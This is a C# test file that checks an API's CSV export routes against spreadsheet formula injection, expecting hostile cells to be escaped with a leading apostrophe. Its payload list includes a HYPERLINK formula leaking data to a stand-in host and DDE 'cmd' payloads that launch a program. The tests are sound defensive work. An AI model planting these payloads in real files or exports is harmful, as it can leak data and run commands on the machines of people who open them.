using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Csp.Api.Tests.Indicators;
using Csp.Api.Tests.Infrastructure;
using static Csp.Api.Tests.Plans.PlanTestKit;

namespace Csp.Api.Tests.Http;

/// <summary>
/// Every route that answers CSV, read back as an officer's spreadsheet would: text that a partner planted through the API and that
/// begins like a formula arrives with OWASP's leading <c>'</c>, numbers stay numbers, the file is UTF-8 (with the byte order mark
/// Excel needs) and is saved under a name of its own.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class CsvSafetyTests(CspApiFactory factory)
{
    /// <summary>One payload per character a spreadsheet starts a formula with.</summary>
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Report\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    private sealed record Planted(TestTenant T, Guid PlanId, Guid PriorityId, Guid IndicatorId, string IndicatorCode);

    /// <summary>A plan whose commitments' titles and latest commentaries, indicators' names and observations' notes are each one of
    /// <see cref="Hostile"/>; one indicator in pounds holds a negative value.</summary>
    private async Task<Planted> PlantAsync()
    {
        var t = await TestTenant.CreateAsync(factory);
        var met = await t.CreateAgencyAsync("MET");
        var (pusher, _, _) = await t.KeyAsync(["observations:write"], met.Id());
        var plan = await t.CreatePlanAsync();
        var priority = await t.CreatePriorityAsync(plan.Id());
        for (var i = 0; i < Hostile.Length; i++)
        {
            var commitment = await t.CreateCommitmentAsync(priority.Id(), $"C{i}", Hostile[i]);
            await t.AddUpdateAsync(commitment.Id(), "on_track", Hostile[i]);
            await TestTenant.Expect(await t.Admin.PostAsJsonAsync(t.Path("/indicators"), new
            {
                code = $"HOSTILE-{i}", name = Hostile[i], unit = "count", direction = "decrease", frequency = "monthly",
                sourceAgencyId = met.Id(), priorityIds = new[] { priority.Id() },
            }), HttpStatusCode.Created);
        }
        var money = await t.CreateIndicatorAsync(met.Id(), "SPEND", unit: "currency_gbp", priorityIds: [priority.Id()]);
        await pusher.PushOkAsync(t, Hostile.Select((note, i) => IndicatorTestData.Row("SPEND", $"2025-0{i + 1}", -3.5m - i, note: note)));
        // A rule that never holds, so every planted value is a violation.
        await TestTenant.Expect(await t.Admin.PostAsJsonAsync(t.Path("/validation-rules"),
            new { code = "NEVER", left = "SPEND", @operator = "greater_than", right = "SPEND" }), HttpStatusCode.Created);
        return new Planted(t, plan.Id(), priority.Id(), money.Id(), "SPEND");
    }

    /// <summary>Every CSV route: its path template in the contract, the URL of the planted data, the file name, the columns that
    /// hold planted text, and a column with a negative number in it.</summary>
    private static readonly Dictionary<string, (Func<Planted, string> Url, Func<Planted, string> FileName, string[] TextColumns,
        (string Column, string Value)? Number)> Routes = new()
        {
            ["/v1/partnerships/{partnership}/priorities/{priorityId}/commitments"] = (
            p => p.T.Path($"/priorities/{p.PriorityId}/commitments"),
            p => $"{p.T.Slug}-priority-{p.PriorityId}-commitments.csv",
            ["title", "latest_update_commentary"], null),
            ["/v1/partnerships/{partnership}/plans/{planId}/commitments"] = (
            p => p.T.Path($"/plans/{p.PlanId}/commitments"),
            p => $"{p.T.Slug}-plan-{p.PlanId}-commitments.csv",
            ["title", "latest_update_commentary"], null),
            ["/v1/partnerships/{partnership}/plans/{planId}/indicators"] = (
            p => p.T.Path($"/plans/{p.PlanId}/indicators"),
            p => $"{p.T.Slug}-plan-{p.PlanId}-indicators.csv",
            ["name"], ("latest_value", "-8.5")),
            ["/v1/partnerships/{partnership}/indicators/{indicatorId}/observations"] = (
            p => p.T.Path($"/indicators/{p.IndicatorId}/observations"),
            p => $"{p.T.Slug}-{p.IndicatorCode}-observations.csv",
            ["note"], ("value", "-3.5")),
            ["/v1/partnerships/{partnership}/observations"] = (
            p => p.T.Path("/observations"),
            p => $"{p.T.Slug}-observations.csv",
            ["note"], ("value", "-3.5")),
            ["/v1/partnerships/{partnership}/validation-rules/violations"] = (
            p => p.T.Path("/validation-rules/violations"),
            p => $"{p.T.Slug}-rule-violations.csv",
            [], ("left_value", "-3.5")),
        };

    [Fact]
    public void Every_route_the_contract_says_answers_CSV_is_read_back_here()
    {
        var document = JsonNode.Parse(File.ReadAllText(Repo.PathOf("openapi", "v1.json")))!;
        var csv = document["paths"]!.AsObject()
            .Where(p => p.Value!.AsObject().Any(o => o.Value!["responses"]?.AsObject()
                .Any(r => r.Value!["content"]?[Csp.Api.Infrastructure.Csv.MediaType] is not null) == true))
            .Select(p => p.Key)
            .Order(StringComparer.Ordinal);

        Assert.Equal(Routes.Keys.Order(StringComparer.Ordinal), csv);
    }

    public static TheoryData<string> CsvRoutes => [.. Routes.Keys];

    [Theory]
    [MemberData(nameof(CsvRoutes))]
    public async Task Planted_formulas_come_back_as_text_and_numbers_as_numbers_in_a_named_UTF8_download(string template)
    {
        var planted = await PlantAsync();
        var route = Routes[template];
        using var request = new HttpRequestMessage(HttpMethod.Get, route.Url(planted) + "?limit=200");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue(Csp.Api.Infrastructure.Csv.MediaType));

        var response = await planted.T.Admin.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.Equal($"attachment; filename=\"{route.FileName(planted)}\"", response.Content.Headers.ContentDisposition?.ToString());
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var rows = Parse(new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes, 3, bytes.Length - 3));
        var header = rows[0];
        var data = rows[1..];
        Assert.NotEmpty(data);

        foreach (var column in route.TextColumns)
        {
            var at = Array.IndexOf(header, column);
            Assert.True(at >= 0, $"no column {column} in {string.Join(',', header)}");
            var cells = data.Select(r => r[at]).Where(c => c.Length > 0).ToHashSet();
            foreach (var hostile in Hostile)
                Assert.Contains("'" + hostile, cells);
        }
        if (route.Number is { } number)
            Assert.Contains(data, r => r[Array.IndexOf(header, number.Column)] == number.Value);
        // Whatever the column, no cell but a number begins as a formula would.
        foreach (var row in data)
            foreach (var cell in row)
                Assert.True(cell.Length == 0 || !"=+-@\t\r".Contains(cell[0]) || decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _),
                    $"A cell begins as a formula: {cell}");
    }

    [Fact]
    public async Task JSON_keeps_the_text_as_it_was_written()
    {
        var planted = await PlantAsync();

        var page = await planted.T.Admin.GetAsync(planted.T.Path($"/plans/{planted.PlanId}/commitments"));

        var titles = (await TestTenant.Expect(page, HttpStatusCode.OK))["items"]!.AsArray().Select(c => c!["title"]!.GetValue<string>());
        Assert.Equal(Hostile, titles);
    }

    /// <summary>RFC 4180 records: fields split on commas, quoted fields unquoted, CRLF between records.</summary>
    private static string[][] Parse(string csv)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c != '"') field.Append(c);
                else if (i + 1 < csv.Length && csv[i + 1] == '"') { field.Append('"'); i++; }
                else quoted = false;
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
                i++;
            }
            else field.Append(c);
        }
        Assert.True(row.Count == 0 && field.Length == 0 && !quoted, "The CSV does not end with CRLF.");
        return [.. rows];
    }
}
